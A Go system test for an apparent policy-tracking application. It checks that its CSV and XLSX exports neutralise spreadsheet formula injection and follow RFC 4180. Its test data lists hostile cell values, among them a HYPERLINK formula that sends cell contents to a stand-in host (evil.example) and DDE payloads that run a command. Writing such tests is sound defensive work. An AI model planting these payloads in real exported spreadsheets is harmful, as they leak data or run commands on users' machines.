package systemtest_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/xuri/excelize/v2"

	"github.com/pctracker/pctracker/internal/action"
	"github.com/pctracker/pctracker/internal/apptest"
	"github.com/pctracker/pctracker/internal/challenge"
	"github.com/pctracker/pctracker/internal/stakeholder"
	"github.com/pctracker/pctracker/internal/store"
	"github.com/pctracker/pctracker/internal/testutil"
)

// hostileCells are values a spreadsheet would run as formulas: OWASP's
// list (=, +, -, @, tab, carriage return first) and a formula behind a
// space, which programs that trim spaces on import would run too.
var hostileCells = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
	`+SUM(1,1)`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+2",
	"\r=1+3",
	" =1+4",
}

// quotedCell needs every kind of RFC 4180 quoting: a comma, quotes and a
// line break.
const quotedCell = "Ministère, \"quoted\"\nsecond line"

// dangerous reports whether a spreadsheet would run a cell as a formula.
func dangerous(cell string) bool {
	first := strings.TrimLeftFunc(cell, unicode.IsSpace)
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) || first != "" && strings.ContainsRune("=+-@", rune(first[0]))
}

// payload is what must survive of a hostile value behind its escape: the
// value without the leading blanks a CSV line end may swallow.
func payload(v string) string { return strings.TrimLeft(v, " \t\r") }

// csvCells checks that a CSV document is RFC 4180 (records end in CRLF,
// strict parsing, as many fields in every record) and returns its cells.
func csvCells(t *testing.T, name, body string) []string {
	t.Helper()
	raw := strings.TrimPrefix(body, "\ufeff")
	if !strings.HasSuffix(raw, "\r\n") || strings.Count(raw, "\n") != strings.Count(raw, "\r\n") {
		t.Errorf("%s: records must end in CRLF: %q", name, raw)
	}
	records, err := csv.NewReader(strings.NewReader(raw)).ReadAll() // strict quotes, a constant number of fields
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	var cells []string
	for _, r := range records {
		cells = append(cells, r...)
	}
	return cells
}

// xlsxCells reads every cell of every sheet of a workbook and checks that
// none is a formula and every text cell is stored as a string.
func xlsxCells(t *testing.T, name string, body []byte) []string {
	t.Helper()
	x, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	defer x.Close()
	var cells []string
	for _, sheet := range x.GetSheetList() {
		rows, err := x.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for i, row := range rows {
			for j, value := range row {
				ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
				formula, err := x.GetCellFormula(sheet, ref)
				if err != nil || formula != "" {
					t.Errorf("%s %s!%s is a formula: %q %v", name, sheet, ref, formula, err)
				}
				kind, err := x.GetCellType(sheet, ref)
				if err != nil {
					t.Fatal(err)
				}
				if strings.ContainsAny(value, "=+-@") && kind != excelize.CellTypeSharedString && kind != excelize.CellTypeInlineString {
					t.Errorf("%s %s!%s = %q is stored as %v, not as a string", name, sheet, ref, value, kind)
				}
				cells = append(cells, value)
			}
		}
	}
	return cells
}

// Every spreadsheet the product writes (the open data CSV, the status
// board CSV, and the report's CSV and XLSX in each language, as the API
// serves the published, stored documents), with organisations and actions
// named by hostile values stored as they are, as if typed before any
// trimming: no cell is one a spreadsheet would run, every hostile value is
// there behind an apostrophe, CSV is RFC 4180 and a quoted value reads
// back whole, and no XLSX cell is a formula.
func TestExportsEscapeFormulas(t *testing.T) {
	testutil.ForEachDB(t, func(t *testing.T, db *store.DB) {
		sc := apptest.NewScenario(t, db)
		ctx := context.Background()
		values := append([]string{quotedCell}, hostileCells...)
		reviewer := sc.S.Reviewer(t, stakeholder.CivilSociety)
		c2025, err := sc.S.Cycles.Get(ctx, 2025)
		if err != nil {
			t.Fatal(err)
		}
		for _, v := range values {
			// Each value names an organisation and its action of both
			// cycles, and the statement and reasons of a challenge upheld
			// of its 2025 action, set in the tables, past the input's
			// tidying.
			st := sc.S.Stakeholder(t, stakeholder.Company)
			for _, year := range []int{2025, 2026} {
				apptest.AcceptIn(t, sc, st.ID, year, func(in *action.Input) {})
			}
			last, _, err := sc.S.Actions.List(ctx, testutil.System, action.Filter{StakeholderID: st.ID, CycleID: c2025.ID})
			if err != nil || len(last) != 1 {
				t.Fatalf("the 2025 action: %v %v", last, err)
			}
			sc.S.PublishedChallenge(t, reviewer, last[0], challenge.Input{Grounds: challenge.Outdated, Statement: "s"}, "r",
				challenge.Decision{Outcome: challenge.Upheld, Reasons: "d"})
			for _, q := range []string{"UPDATE stakeholders SET name = $1 WHERE id = $2", "UPDATE actions SET title = $1 WHERE stakeholder_id = $2",
				"UPDATE challenges SET statement = $1, reasons = $1 WHERE action_id IN (SELECT id FROM actions WHERE stakeholder_id = $2)"} {
				if _, err := db.SQL().ExecContext(ctx, q, v, st.ID); err != nil {
					t.Fatal(err)
				}
			}
		}

		// The crosswalk's open data: provision keys (and a framework's)
		// named by the hostile values, on provisions the actions'
		// recommendations (1 and 4) derive.
		sc.S.Crosswalk(t)
		derived := testutil.Column[int64](t, db.SQL(), `SELECT DISTINCT provision_id FROM provision_recommendations
			WHERE recommendation_number IN (1, 4) ORDER BY provision_id`)
		if len(derived) < len(values) {
			t.Fatalf("%d provisions derived, want %d", len(derived), len(values))
		}
		for i, v := range values {
			if _, err := db.SQL().ExecContext(ctx, "UPDATE provisions SET key = $1 WHERE id = $2", v, derived[i]); err != nil {
				t.Fatal(err)
			}
		}
		if _, err := db.SQL().ExecContext(ctx, "UPDATE frameworks SET key = $1 WHERE id = (SELECT framework_id FROM provisions WHERE id = $2)",
			hostileCells[0], derived[0]); err != nil {
			t.Fatal(err)
		}

		type document struct {
			name string
			body string
			xlsx bool
		}
		docs := []document{
			{name: "open data CSV", body: apptest.APIClient{T: t, Base: sc.TS}.Do("GET", "/api/v1/open-data/actions.csv", "").Body},
			{name: "challenges' open data CSV", body: apptest.APIClient{T: t, Base: sc.TS}.Do("GET", "/api/v1/open-data/challenges.csv", "").Body},
			{name: "crosswalk's open data CSV", body: apptest.APIClient{T: t, Base: sc.TS}.Do("GET", "/api/v1/open-data/crosswalk.csv", "").Body},
			{name: "status board CSV", body: sc.Sec.Do("GET", "/admin/status.csv?cycle=2026", "").Body},
			// Last year's action of the focal point's organisation counts
			// for the provisions named by the hostile values.
			{name: "our actions by framework CSV", body: sc.Focal.Do("GET", "/workspace/frameworks.csv?cycle=2025", "").Body},
			{name: "our actions by framework XLSX", body: sc.Focal.Do("GET", "/workspace/frameworks.xlsx?cycle=2025", "").Body, xlsx: true},
		}
		// The 2025 actions were accepted today, after that cycle's Forum:
		// the report is cut off now rather than at its Forum day.
		r := sc.Sec.Do("POST", "/api/v1/cycles/2025/reports", fmt.Sprintf(`{"cutoff_at": %q}`, sc.S.Clock.Now().Format(time.RFC3339)))
		report := apptest.Decode[apptest.ReportJSON](t, r)
		if r.Status != 201 {
			t.Fatalf("compile: %d %s", r.Status, r.Body)
		}
		r = sc.Sec.Do("POST", fmt.Sprintf("/api/v1/reports/%d/publish", report.ID), "")
		if report = apptest.Decode[apptest.ReportJSON](t, r); r.Status != 200 {
			t.Fatalf("publish: %d %s", r.Status, r.Body)
		}
		for _, d := range report.Documents {
			if d.Format == "csv" || d.Format == "xlsx" {
				got := sc.Member.Do("GET", strings.TrimPrefix(d.URL, sc.TS), "")
				if got.Status != 200 {
					t.Fatalf("%s %s: %d", d.Format, d.Lang, got.Status)
				}
				docs = append(docs, document{name: "report " + d.Format + " " + d.Lang, body: got.Body, xlsx: d.Format == "xlsx"})
			}
		}
		// Every route that serves a spreadsheet is one of these (the
		// matrix holds the rules to the router's list of routes).
		served := map[string]bool{"GET /api/v1/open-data/actions.csv": true, "GET /api/v1/open-data/challenges.csv": true, "GET /admin/status.csv": true,
			"GET /api/v1/open-data/crosswalk.csv": true, "GET /workspace/frameworks.csv": true, "GET /workspace/frameworks.xlsx": true,
			"GET /api/v1/reports/:id/:format": true, "GET /actions/import/template.csv": true, // the templates hold their header and example
			"GET /actions/import/template.xlsx": true, "GET /actions/import/codes.csv": true}
		for key := range rules {
			if (strings.Contains(key, ".csv") || strings.Contains(key, ".xlsx") || strings.Contains(key, ":format")) && !served[key] {
				t.Errorf("%s serves a spreadsheet this test does not read", key)
			}
		}
		template := sc.Member.Do("GET", "/actions/import/template.csv", "")
		csvCells(t, "import template", template.Body)
		xlsxCells(t, "import template (xlsx)", []byte(sc.Member.Do("GET", "/actions/import/template.xlsx", "").Body))
		csvCells(t, "import codes", sc.Member.Do("GET", "/actions/import/codes.csv", "").Body)

		escaped := 0
		for _, d := range docs {
			var cells []string
			if d.xlsx {
				cells = xlsxCells(t, d.name, []byte(d.body))
			} else {
				cells = csvCells(t, d.name, d.body)
			}
			for _, c := range cells {
				if dangerous(c) {
					t.Errorf("%s: cell %q would run as a formula", d.name, c)
				}
			}
			for _, v := range hostileCells {
				found := false
				for _, c := range cells {
					found = found || strings.HasPrefix(c, "'") && strings.Contains(c, payload(v))
				}
				if !found {
					t.Errorf("%s: %q is not there behind an apostrophe", d.name, v)
					continue
				}
				escaped++
			}
			found := false
			for _, c := range cells {
				found = found || c == quotedCell
			}
			if !found {
				t.Errorf("%s: %q does not read back whole", d.name, quotedCell)
			}
		}
		t.Logf("exports: %d documents × %d hostile cells: %d escaped, none a formula; CSV RFC 4180 (CRLF, quoting) read back whole",
			len(docs), len(hostileCells), escaped)
	})
}
